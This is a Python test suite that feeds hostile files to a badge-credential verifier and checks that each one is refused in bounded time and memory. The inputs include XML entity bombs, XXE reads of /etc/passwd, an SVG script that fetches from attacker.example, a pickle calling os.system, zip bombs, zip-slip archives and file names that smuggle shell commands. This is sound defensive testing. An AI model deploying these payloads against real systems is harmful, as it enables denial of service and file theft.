"""Files made to do harm are refused with a line each, in bounded time and memory."""

from __future__ import annotations

import json
import os
import socket
import struct
import threading
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import replace
from io import BytesIO
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from corpus import AS_OF, HARBOUR, Lane, baked_svg, international_text, png, write_trust
from issuing import VC_2, base64url, signed

from skillmatch.read.pool import read_pool
from skillmatch.tables import Pool
from skillmatch.verification.files import verify_file, verify_paths
from skillmatch.verification.outcome import Outcome
from skillmatch.verification.trust import Trust, read_issuers

NOW = pd.Timestamp(AS_OF, tz="UTC")
PATIENCE = 60  # seconds, far beyond what any of these may take: a test that hangs must end
MEMORY = 300_000_000  # bytes
LANE = Lane("vc2 eddsa-rdfc", 2, "eddsa-rdfc-2022")
JWT = Lane("vc2 jwt", 2, "")


def bounded(work: Callable[[], Any]) -> Any:
    """What `work` returns, if it ends at all and takes no more memory than a large file may."""
    results: list[Any] = []

    def run() -> None:
        try:
            results.append(work())
        except Exception as error:
            results.append(error)

    worker = threading.Thread(target=run, daemon=True)
    tracemalloc.start()
    try:
        worker.start()
        worker.join(PATIENCE)
        assert not worker.is_alive(), "it does not end"
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < MEMORY, f"{peak / 1e6:.0f} MB of memory"
    if isinstance(results[0], Exception):
        raise results[0]
    return results[0]


def inflating(size: int) -> bytes:
    """A zlib stream of about `size` zero bytes, made without writing them all."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    # A block that refers to nothing before it may be repeated as often as one likes.
    block = packer.compress(b"\0" * 2**20) + packer.flush(zlib.Z_FULL_FLUSH)
    return b"\x78\xda" + block * (size // 2**20)


def svg(prologue: str = "", inside: str = "", after: str = "") -> bytes:
    return (
        f'<?xml version="1.0"?>{prologue}<svg xmlns="http://www.w3.org/2000/svg" '
        'xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">'
        f"<openbadges:credential>{inside}</openbadges:credential>{after}</svg>"
    ).encode()


def good_json() -> str:
    return json.dumps(LANE.sign(LANE.credential()))


_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(12))
_TEXT = b"openbadgecredential\0\1\0\0\0"
_DEEP = 100_000

HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
    "lists nested deeply": ("badge.json", lambda: b"[" * _DEEP + b"]" * _DEEP),
    "objects nested deeply": ("badge.json", lambda: b'{"a":' * _DEEP + b"1" + b"}" * _DEEP),
    "never closed": ("badge.json", lambda: b'{"a":' * _DEEP),
    "nested as deep as is read": ("badge.json", lambda: b'{"proof":' * 900 + b"1" + b"}" * 900),
    "a number of a million digits": ("badge.json", lambda: b'{"a": ' + b"9" * 10**6 + b"}"),
    "a number beyond floats": ("badge.json", lambda: b'{"type": "Assertion", "a": 1e999}'),
    "NaN": ("badge.json", lambda: b'{"type": "Assertion", "a": NaN}'),
    "names repeated": ("badge.json", lambda: b'{"issuer": "a", "issuer": "b"}'),
    "names repeated by escapes": ("badge.json", lambda: b'{"issuer": "a", "iss\\u0075er": "b"}'),
    "half a character": ("badge.json", lambda: b'{"type": "\\ud800", "name": "\\udfff"}'),
    "no characters": ("badge.json", lambda: b"\xff\xfe\xff\xff"),
    "zeros": ("badge.json", lambda: b"\0" * 10**6),
    "a hundred thousand empty objects": ("badge.json", lambda: b"[" + b"{}," * 10**5 + b"{}]"),
    "a hundred thousand types": ("badge.json", lambda: b'{"type": [' + b'"a",' * 10**5 + b'"a"]}'),
    "text chunk of four gigabytes": (
        "badge.png", lambda: png((b"iTXt", _TEXT + inflating(2**32)))
    ),
    "text chunk of four gigabytes, older": (
        "badge.png", lambda: png((b"zTXt", b"openbadges\0\0" + inflating(2**32)))
    ),
    "chunk that claims four gigabytes": (
        "badge.png",
        lambda: b"\x89PNG\r\n\x1a\n" + struct.pack(">I4s", 2**32 - 1, b"iTXt") + _TEXT,
    ),
    "picture of no size": ("badge.png", lambda: b"\x89PNG\r\n\x1a\n"),
    "a hundred thousand empty chunks": (
        "badge.png",
        lambda: b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sI", 0, b"iTXt", 0) * 10**5,
    ),
    "entities, a billion": (
        "badge.svg", lambda: svg(f"<!DOCTYPE svg [{_LAUGHS}]>", "&l11;")
    ),
    "entity, external": (
        "badge.svg",
        lambda: svg('<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"),
    ),
    "entity, parametric": (
        "badge.svg",
        lambda: svg('<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://127.0.0.1:1/x"> %x;]>'),
    ),
    "document type elsewhere": (
        "badge.svg", lambda: svg('<!DOCTYPE svg SYSTEM "http://127.0.0.1:1/svg.dtd">')
    ),
    "script alone": (
        "badge.svg",
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//e.org")</script></svg>',
    ),
    "included file": (
        "badge.svg",
        lambda: svg(
            inside='<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" '
            'href="file:///etc/passwd"/>'
        ),
    ),
    "elements nested deeply": ("badge.svg", lambda: svg("", "<g>" * _DEEP + "</g>" * _DEEP)),
    "a hundred thousand attributes": (
        "badge.svg",
        lambda: svg("", "<g " + " ".join(f'a{n}=""' for n in range(10**5)) + "/>"),
    ),
    "badge beside a script that is not closed": (
        "badge.svg", lambda: svg("", "{}", "<script>")
    ),
    "token of many parts": ("badge.jwt", lambda: b"eyJ" + b".e30" * 10**6),
    "token with a header of megabytes": (
        "badge.jwt", lambda: JWT.sign(JWT.credential(), x="y" * 10**6).encode()
    ),
    "token with a header nested deeply": (
        "badge.jwt",
        lambda: _token(b'{"alg":"EdDSA","x":' + b"[" * _DEEP + b"]" * _DEEP + b"}"),
    ),
    "token that is no text": ("badge.jwt", lambda: _token(b"\xff" * 30)),
    "token with a payload nested deeply": (
        "badge.jwt", lambda: _token(b'{"alg":"EdDSA"}', b"[" * _DEEP + b"]" * _DEEP)
    ),
    "address alone": ("badge.json", lambda: b"http://169.254.169.254/latest/meta-data"),
    "program": ("badge.json", lambda: b"\x7fELF" + bytes(range(256)) * 40),
    "pickle": ("badge.json", lambda: b"\x80\x04cos\nsystem\n(S'true'\ntR."),
}  # fmt: skip

# What these say can be read; only their signature is not worth looking at.
_WELL_FORMED = ("token with a header of megabytes",)


def _token(header: bytes, payload: bytes = b"{}", signature: bytes = b"x" * 64) -> bytes:
    return ".".join(map(base64url, (header, payload, signature))).encode()


@pytest.fixture(scope="module")
def trust(tmp_path_factory: pytest.TempPathFactory) -> Trust:
    return read_issuers(write_trust(tmp_path_factory.mktemp("employer")))


@pytest.fixture(autouse=True)
def no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_arguments: object, **_options: object) -> None:
        pytest.fail("the network was asked")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)


def assert_refused(outcomes: list[Outcome]) -> None:
    assert 1 <= len(outcomes) <= 1000
    for outcome in outcomes:
        assert outcome.verification in ("malformed", "invalid", "unchecked", "unsigned")
        assert outcome.reasons
        for reason in outcome.reasons:
            assert 0 < len(reason) < 500
            assert reason.isprintable()


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_file_is_refused(name: str, tmp_path: Path, trust: Trust) -> None:
    file, content = HOSTILE[name]
    path = tmp_path / file
    path.write_bytes(content())
    assert_refused(bounded(lambda: verify_file(path, trust=trust, as_of=NOW)))


@pytest.mark.parametrize("name", [name for name in HOSTILE if name not in _WELL_FORMED])
def test_hostile_file_does_not_stop_a_pool(name: str, tmp_path: Path) -> None:
    file, content = HOSTILE[name]
    for candidate in ("ana", "imre"):
        (tmp_path / candidate).mkdir()
    (tmp_path / "ana" / file).write_bytes(content())
    (tmp_path / "imre" / "badge.json").write_text(good_json(), encoding="utf-8")
    pool: Pool = bounded(lambda: read_pool(tmp_path, progress=False))
    assert pool.problems["source"].str.startswith("ana/").any()
    assert not pool.evidence["candidate_id"].eq("ana").any()
    assert pool.evidence["title"].eq("SQL for Analytics").any()


@pytest.mark.parametrize("ending", ["json", "jwt", "png", "svg", "pdf", "zip", "docx"])
def test_200_mb_are_not_read(ending: str, tmp_path: Path, trust: Trust) -> None:
    path = tmp_path / "ana" / f"badge.{ending}"
    path.parent.mkdir()
    start = {"png": b"\x89PNG\r\n\x1a\n", "svg": b"<svg>", "zip": b"PK\3\4", "docx": b"PK\3\4"}
    with path.open("wb") as file:
        file.write(start.get(ending, b"{"))
        file.truncate(200_000_000)
    pool: Pool = bounded(lambda: read_pool(tmp_path, progress=False))
    assert len(pool.problems) == 1
    assert "MB" in pool.problems["problem"].iloc[0]
    if ending in ("json", "jwt", "png", "svg"):
        outcomes = bounded(lambda: verify_file(path, trust=trust, as_of=NOW))
        assert_refused(outcomes)
        assert "MB" in outcomes[0].reasons[0]


def test_script_beside_a_badge_is_neither_run_nor_a_reason(tmp_path: Path, trust: Trust) -> None:
    path = tmp_path / "badge.svg"
    path.write_bytes(
        baked_svg(f"<![CDATA[{good_json()}]]>").replace(
            "</svg>", '<script>fetch("https://attacker.example")</script></svg>'
        ).encode()
    )  # fmt: skip
    (outcome,) = verify_file(path, trust=trust, as_of=NOW)
    assert outcome.verification == "verified"


def test_first_badge_of_a_picture_counts(tmp_path: Path, trust: Trust) -> None:
    forged = good_json().replace("SQL for Analytics", "Quantum Physics").encode()
    chunks = [
        international_text("openbadgecredential", one) for one in (forged, good_json().encode())
    ]
    path = tmp_path / "badge.png"
    path.write_bytes(png(*chunks))
    outcomes = verify_file(path, trust=trust, as_of=NOW)
    assert [outcome.verification for outcome in outcomes] == ["invalid"]


def test_status_list_that_inflates_to_gigabytes_is_unknown(tmp_path: Path, trust: Trust) -> None:
    url = "https://harbour.example/status/bomb"
    packed = b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + inflating(2**30)[2:]
    bomb = {
        "@context": [VC_2],
        "id": url,
        "type": ["VerifiableCredential", "BitstringStatusListCredential"],
        "issuer": HARBOUR.did,
        "validFrom": "2025-01-01T00:00:00Z",
        "credentialSubject": {
            "id": f"{url}#list",
            "type": "BitstringStatusList",
            "statusPurpose": "revocation",
            "encodedList": "u" + base64url(packed),
        },
    }
    stored = dict(trust.store) | {url: signed(bomb, HARBOUR)}
    entry = {
        "type": "BitstringStatusListEntry",
        "statusPurpose": "revocation",
        "statusListIndex": "15",
        "statusListCredential": url,
    }
    path = tmp_path / "badge.json"
    path.write_text(json.dumps(LANE.sign(LANE.credential(credentialStatus=entry))))
    outcomes = bounded(lambda: verify_file(path, trust=replace(trust, store=stored), as_of=NOW))
    assert [outcome.verification for outcome in outcomes] == ["unchecked"]


# --- Names and folders -----------------------------------------------------------------------

NAMES = [
    "-rf.json", "a;touch x.json", "$(touch x).json", "%2e%2e%2fbadge.json",
    "badge\n.json", "badge\u202egnp.json", "<b>badge.json", "=1+1.json", "é" * 80 + ".json",
    "con.json", "badge.json.json", "'\".json",
]  # fmt: skip


@pytest.mark.skipif(os.name == "nt", reason="Windows refuses most of these names by itself")
def test_names_with_tricks(tmp_path: Path, trust: Trust) -> None:
    folder = tmp_path / "inside" / "ana"
    folder.mkdir(parents=True)
    for name in NAMES:
        (folder / name).write_text(good_json(), encoding="utf-8")
    (folder / "broken.json").write_text("{", encoding="utf-8")
    before = sorted(str(path) for path in tmp_path.rglob("*"))
    outcomes = verify_paths([folder.parent], issuers=trust, as_of=NOW, workers=1, progress=False)
    assert sorted(str(path) for path in tmp_path.rglob("*")) == before
    words = [outcome.verification for outcome in outcomes]
    assert words.count("verified") == len(NAMES)
    assert words.count("malformed") == 1
    assert all(outcome.source.isprintable() for outcome in outcomes)
    assert len({outcome.source for outcome in outcomes}) == len(outcomes)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="there are no pipes on this system")
def test_what_is_no_file_does_not_block(tmp_path: Path, trust: Trust) -> None:
    root = tmp_path / "applications"
    folder = root / "ana"
    folder.mkdir(parents=True)
    (tmp_path / "secret.json").write_text(good_json(), encoding="utf-8")
    os.mkfifo(folder / "pipe.json")
    (folder / "zero.json").symlink_to("/dev/zero")
    (folder / "loop.json").symlink_to(folder / "loop.json")
    (folder / "up").symlink_to(root)
    (folder / "gone.json").symlink_to(tmp_path / "gone")
    (folder / "outside.json").symlink_to(tmp_path / "secret.json")
    (folder / "folder.json").mkdir()
    (folder / "good.json").write_text(good_json(), encoding="utf-8")
    outcomes = bounded(
        lambda: verify_paths([root], issuers=trust, as_of=NOW, workers=1, progress=False)
    )
    words = {Path(outcome.source).name: outcome.verification for outcome in outcomes}
    assert sum(outcome.verification == "verified" for outcome in outcomes) == 1
    assert words.pop("good.json") == "verified"
    # Each is named, so that nobody takes it for verified or for never sent.
    assert {"pipe.json", "zero.json", "gone.json", "outside.json", "loop.json"} <= set(words)
    assert set(words.values()) <= {"malformed"}
    pool: Pool = bounded(lambda: read_pool(root, progress=False))
    assert pool.evidence["source"].tolist() == ["ana/good.json"]


@pytest.mark.skipif(os.name == "nt", reason="links need special rights on Windows")
def test_no_candidate_borrows_the_badge_of_another(tmp_path: Path) -> None:
    for candidate in ("ana", "imre"):
        (tmp_path / candidate).mkdir()
    (tmp_path / "ana" / "badge.json").write_text(good_json(), encoding="utf-8")
    (tmp_path / "imre" / "mine.json").symlink_to("../ana/badge.json")
    pool = read_pool(tmp_path, progress=False)
    assert pool.evidence["candidate_id"].tolist() == ["ana"]
    assert pool.problems["source"].tolist() == ["imre/mine.json"]


# --- Exports ---------------------------------------------------------------------------------


def zipped(*entries: tuple[str | zipfile.ZipInfo, bytes]) -> bytes:
    content = BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return content.getvalue()


def _link(name: str, target: bytes) -> tuple[zipfile.ZipInfo, bytes]:
    entry = zipfile.ZipInfo(name)
    entry.external_attr = 0o120777 << 16
    return entry, target


def _lying(content: bytes) -> bytes:
    """The archive with every size in its directory set to ten bytes."""
    place = content.index(b"PK\1\2")
    return content[: place + 24] + struct.pack("<I", 10) + content[place + 28 :]


_ROWS = b"Company Name,Title,Description,Location,Started On,Finished On\n"
ARCHIVES: dict[str, Callable[[], bytes]] = {
    "inflates": lambda: zipped(("Positions.csv", _ROWS + b"a" * 300_000_000)),
    "inflates into many": lambda: zipped(
        *((f"Skills{n}.csv", b"Name\n" + b"\n" * 10**6) for n in range(200)),
        ("Positions.csv", _ROWS),
    ),
    "lies about its size": lambda: _lying(zipped(("Positions.csv", _ROWS + b"a" * 300_000_000))),
    "goes up": lambda: zipped(("../../Positions.csv", _ROWS), ("/Positions.csv", _ROWS)),
    "goes up on Windows": lambda: zipped(("..\\..\\Positions.csv", _ROWS)),
    "links": lambda: zipped(_link("Positions.csv", b"/etc/passwd")),
    "holds archives": lambda: zipped(("Positions.zip", zipped(("Positions.csv", _ROWS)))),
    "holds ten thousand names": lambda: zipped(*((f"{n}", b"") for n in range(10_000))),
    "is cut short": lambda: zipped(("Positions.csv", _ROWS * 100))[:-30],
    "is empty": zipped,
    "is none": lambda: b"PK\3\4" + b"\0" * 100,
    "says the same twice": lambda: zipped(
        ("Positions.csv", _ROWS + b"a,b,,,,\n"), ("positions.csv", _ROWS + b"c,d,,,,\n")
    ),
}  # fmt: skip


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize("name", ARCHIVES)
def test_hostile_archive_is_put_on_record(name: str, tmp_path: Path) -> None:
    root = tmp_path / "applications"
    (root / "ana").mkdir(parents=True)
    (root / "ana" / "export.zip").write_bytes(ARCHIVES[name]())
    before = sorted(str(path) for path in tmp_path.rglob("*"))
    pool: Pool = bounded(lambda: read_pool(root, progress=False))
    assert sorted(str(path) for path in tmp_path.rglob("*")) == before
    assert len(pool.problems) >= 1 or name == "says the same twice"
    assert "root:" not in " ".join(pool.evidence["text"])


@pytest.mark.parametrize("ending", ["docx", "xlsx"])
def test_office_file_that_inflates(ending: str, tmp_path: Path) -> None:
    (tmp_path / "ana").mkdir()
    inside = "word/document.xml" if ending == "docx" else "xl/workbook.xml"
    bomb = zipped(("[Content_Types].xml", b"<Types/>"), (inside, b" " * 300_000_000))
    (tmp_path / "ana" / f"resume.{ending}").write_bytes(bomb)
    pool: Pool = bounded(lambda: read_pool(tmp_path, progress=False))
    assert len(pool.problems) == 1
    assert pool.evidence.empty
